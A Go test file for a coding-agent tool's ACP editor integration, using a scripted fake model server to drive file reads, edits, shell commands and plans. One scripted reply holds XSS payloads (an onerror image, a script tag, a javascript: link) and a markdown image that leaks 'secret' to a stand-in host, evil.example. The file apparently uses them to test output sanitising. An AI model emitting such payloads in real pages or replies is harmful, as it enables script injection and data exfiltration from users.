package main

import (
	"bytes"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/ptkit/ptk/acp/acptest"
)

// promptModel is an OpenAI-compatible model server that answers by the
// conversation: the last user message picks a script, and the assistant
// turns since it pick the step. Each answer goes out in the real wire
// format (fakeOpenAI), streamed when asked.
type promptModel struct {
	t       *testing.T
	scripts map[string][]fakeReply
	// answer, when set, answers what no script does.
	answer func(msgs []map[string]any) (fakeReply, bool)
}

func (m *promptModel) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(r.Body)
	var req struct {
		Messages []map[string]any `json:"messages"`
	}
	json.Unmarshal(body, &req)
	last, steps := "", 0
	for _, msg := range req.Messages {
		switch msg["role"] {
		case "user":
			last, _ = msg["content"].(string)
			steps = 0
		case "assistant":
			steps++
		}
	}
	var rep fakeReply
	if script, ok := m.scripts[strings.TrimSpace(last)]; ok && steps < len(script) {
		rep = script[steps]
	} else if a, ok := m.answerFor(req.Messages); ok {
		rep = a
	} else {
		rep = fakeReply{status: 500, body: `{"error":{"message":"no script for ` + strings.ReplaceAll(last, `"`, `'`) + `"}}`}
	}
	r.Body = io.NopCloser(bytes.NewReader(body))
	(&fakeOpenAI{t: m.t, replies: []fakeReply{rep}}).ServeHTTP(paced{w}, r)
}

// paced streams at the pace of a model that writes a few hundred tokens a
// second: a pause after each piece it flushes.
type paced struct{ http.ResponseWriter }

func (p paced) Flush() {
	p.ResponseWriter.(http.Flusher).Flush()
	time.Sleep(10 * time.Millisecond)
}

func (m *promptModel) answerFor(msgs []map[string]any) (fakeReply, bool) {
	if m.answer == nil {
		return fakeReply{}, false
	}
	return m.answer(msgs)
}

func call1(name string, args any) [][2]string {
	b, _ := json.Marshal(args)
	return [][2]string{{name, string(b)}}
}

// acpTestEnv builds ptk and starts the scripted model of the ACP
// end-to-end tests, in a new folder to work in, and returns the
// environment the node tests read: PTK_BIN, PTK_TEST_WORKSPACE,
// PTK_TEST_BASE_URL, PTK_TEST_TRACE_DB.
func acpTestEnv(t *testing.T) (env []string, workspace string) {
	t.Helper()
	bin := ptkBinary(t)
	dir := t.TempDir()
	for name, content := range map[string]string{
		"package.json": "{\n  \"name\": \"demo\",\n  \"version\": \"1.0.0\"\n}\n",
		"main.go":      "package main\n\nfunc main() {\n\tprintln(\"hi\")\n}\n",
	} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	model := &promptModel{t: t, scripts: map[string][]fakeReply{
		"read package.json": {
			{content: "Let me look at it.", calls: call1("read_file", map[string]string{"path": "package.json"})},
			{content: "The package is named **demo**, version `1.0.0`."},
		},
		"edit main.go": {
			{calls: call1("edit_file", map[string]string{"path": "main.go", "old_string": `println("hi")`, "new_string": `println("hello")`})},
			{content: "Done."},
		},
		"write notes": {
			{calls: call1("write_file", map[string]string{"path": "notes.md", "content": "# Notes\n"})},
			{content: "Written."},
		},
		"sleep": {
			{calls: call1("bash", map[string]string{"command": "sleep 30"})},
			{content: "Slept."},
		},
		"plan it": {
			{calls: call1("update_plan", map[string]any{"entries": []map[string]string{
				{"content": "Read package.json", "status": "completed"},
				{"content": "Rename the package", "status": "in_progress"},
				{"content": "Run the tests", "status": "pending"}}})},
			{content: "I have a plan."},
		},
		"show html": {{content: "Here is **bold**, `code` and a list:\n\n- <img src=x onerror=\"document.title='pwned'\">\n- <script>document.title='pwned'</script>\n\n" +
			"![exfil](https://evil.example/?q=secret) and [click](javascript:alert(1)) and [docs](https://example.com/docs)."}},
		"fail": {{status: 500, body: `{"error":{"message":"the model is overloaded"}}`}},
	}, answer: func(msgs []map[string]any) (fakeReply, bool) {
		// After a restart, the loaded conversation must reach the model.
		for _, msg := range msgs {
			if msg["role"] == "user" && msg["content"] == "read package.json" {
				return fakeReply{content: "You asked me to read package.json."}, true
			}
		}
		return fakeReply{content: "I do not know."}, true
	}}
	srv := httptest.NewServer(model)
	t.Cleanup(srv.Close)
	return append(os.Environ(),
		"PTK_BIN="+bin, "PTK_TEST_WORKSPACE="+dir, "PTK_TEST_BASE_URL="+srv.URL+"/v1",
		"PTK_TEST_TRACE_DB="+filepath.Join(t.TempDir(), "traces.db"),
		"XDG_CONFIG_HOME="+t.TempDir(), // no policy or MCP file of the user's
	), dir
}

// TestACPWithOfficialClient runs a whole session of the real ptk acp with
// the official ACP TypeScript SDK as the editor (acp/acptest's
// client.test.mjs, under node --test): initialize, a new session with an
// MCP server, a streamed answer with a tool call, a permission request
// answered each way, edits that land in the editor's buffers, a cancel
// while a command runs in the editor's terminal, a load after a restart.
func TestACPWithOfficialClient(t *testing.T) {
	if testing.Short() {
		t.Skip("builds ptk and runs node")
	}
	script := acptest.Client(t)
	node := acptest.SDK.Node(t)
	env, dir := acpTestEnv(t)
	cmd := exec.Command(node, "--test", "--test-reporter=spec", script)
	cmd.Dir = filepath.Dir(script)
	cmd.Env = env
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("node --test client.test.mjs: %v\n%s", err, out)
	}
	t.Logf("node --test client.test.mjs:\n%s", out)
	if !strings.Contains(string(out), "pass 6") {
		t.Errorf("the client's tests did not all run:\n%s", out)
	}
	if b, _ := os.ReadFile(filepath.Join(dir, "main.go")); !strings.Contains(string(b), `println("hi")`) {
		t.Errorf("the disk changed; the edit was the editor's: %q", b)
	}
	if _, err := os.Stat(filepath.Join(dir, "notes.md")); err == nil {
		t.Error("notes.md is on the disk; it was the editor's")
	}
}

// TestVSCodeExtension runs the VS Code extension's tests (editors/vscode,
// node --test): its ACP client and view-model against the real ptk acp,
// and its chat page in a real headless Chromium, fed the states the
// view-model posted, with screenshots in $PTK_ARTIFACTS. The extension must
// be built first (npm ci and npm run build in editors/vscode, as .ci/run
// does); without it the test skips, or fails under
// PTK_TEST_VSCODE_REQUIRED=1.
func TestVSCodeExtension(t *testing.T) {
	if testing.Short() {
		t.Skip("builds ptk and runs node")
	}
	ext, _ := filepath.Abs("../../editors/vscode")
	if _, err := os.Stat(filepath.Join(ext, "dist", "lib.mjs")); err != nil {
		if os.Getenv("PTK_TEST_VSCODE_REQUIRED") == "1" {
			t.Fatalf("the extension is not built (%v): npm ci && npm run build in editors/vscode", err)
		}
		t.Skip("the extension is not built: npm ci && npm run build in editors/vscode")
	}
	node := acptest.SDK.Node(t)
	env, _ := acpTestEnv(t)
	cmd := exec.Command(node, "--test", "--test-reporter=spec", "test/")
	cmd.Dir = ext
	cmd.Env = env
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("node --test (editors/vscode): %v\n%s", err, out)
	}
	t.Logf("node --test (editors/vscode):\n%s", out)
	if strings.Contains(string(out), "ℹ pass 0") || !strings.Contains(string(out), "ℹ fail 0") {
		t.Errorf("the extension's tests did not run:\n%s", out)
	}
}

func TestACPUsage(t *testing.T) {
	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
	db := filepath.Join(t.TempDir(), "traces.db")
	for _, c := range []struct {
		args []string
		code int
		want string
	}{
		{[]string{"acp", "--approval", "yolo"}, 2, "--approval must be ask, auto-edit or plan"},
		{[]string{"acp", "--workspace", "."}, 2, "--workspace does not apply"},
		{[]string{"acp", "--yes"}, 2, "--approval auto-edit"},
		{[]string{"acp", "--mode", "magic"}, 2, "--mode must be ptk, native or auto"},
		{[]string{"acp", "prompt"}, 2, "acp takes no arguments"},
		// An editor that goes away at once: ptk acp ends cleanly.
		{[]string{"acp", "--model", "qwen3:8b", "--trace-db", db}, 0, ""},
	} {
		code, out, errOut := runPTK(t, "", c.args...)
		if code != c.code || !strings.Contains(errOut, c.want) {
			t.Errorf("ptk %s: exit %d, stderr %q (stdout %q); want exit %d and %q", strings.Join(c.args, " "), code, errOut, out, c.code, c.want)
		}
	}
}
